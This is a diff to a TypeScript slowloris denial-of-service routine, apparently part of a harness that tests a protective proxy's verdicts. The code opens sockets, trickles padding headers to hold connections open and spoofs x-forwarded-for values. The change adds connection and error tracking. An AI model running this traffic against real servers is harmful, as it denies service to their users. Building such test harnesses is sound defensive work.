@@ -38,15 +38,19 @@ export async function runSlowloris(o: SlowlorisOptions): Promise<void> {
     for (let k = 0; k < h.length; k += 2) head += `${h[k]}: ${h[k + 1]}\r\n`;
     if (o.xffOf) head += `x-forwarded-for: ${o.xffOf(i)}\r\n`;
     const timer = setInterval(() => s.write(`x-pad-${lines++}: ${lines}\r\n`), TRICKLE_MS);
+    let connected = false;
+    let error = '';
     s.setNoDelay(true);
-    s.on('connect', () => s.write(head));
+    s.on('connect', () => ((connected = true), s.write(head)));
     s.on('data', (d) => {
       if (reply.length < 512) reply += d.toString('latin1');
     });
-    s.on('error', () => {});
+    s.on('error', (e: NodeJS.ErrnoException) => (error = e.code ?? 'error'));
     s.on('close', () => {
       clearInterval(timer);
       if (!open.delete(s)) return; // our own teardown, already counted
+      // Never connected (the target not listening yet, or restarting): an error, not a close.
+      if (!connected) return void o.recorder.attackResult(sentAt, false, `error/${error || 'not-connected'}`, true);
       o.recorder.slowClosedByTarget++;
       const status = /^HTTP\/1\.[01] (\d{3})/.exec(reply)?.[1];
       const verdict = /\r\nrampart-verdict: ([^\r]+)/i.exec(reply)?.[1];
